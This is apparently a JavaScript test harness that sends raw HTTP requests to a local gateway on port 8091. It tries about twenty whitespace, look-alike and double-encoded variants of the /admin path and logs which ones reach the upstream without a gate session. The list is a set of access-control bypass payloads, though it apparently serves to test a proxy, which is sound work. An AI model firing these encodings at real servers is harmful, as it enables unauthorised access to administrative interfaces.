// More encodings of /admin (whitespace and look-alikes) — which reach the upstream without a gate session.
import fs from 'node:fs';
import { raw, status } from './raw.mjs';
const LOG = new URL('./upstream.log', import.meta.url).pathname;
const lines = () => fs.readFileSync(LOG, 'utf8').trim().split('\n').length;
const ts = ['/admin%09', '/admin%0a', '/admin%0d', '/admin%0b', '/admin%0c', '/admin%a0', '/admin%c2%a0', '/admin%e3%80%80', '/admin%00', '/admin%20', '/%09admin', '/ad%09min', '/admin%09/x', '/admin%2e%09', '/admin%1f', '/admin%7f', '/wp-admin%09/index.php', '/admin/..%09/', '/%2561dmin', '/%252e%252e/admin', '/admin%252f'];
for (const t of ts) {
  const b = lines();
  const r = await raw(`GET ${t} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`, 8091, 800);
  console.log(t.padEnd(28), status(r), lines() > b ? 'UPSTREAM' : '');
}
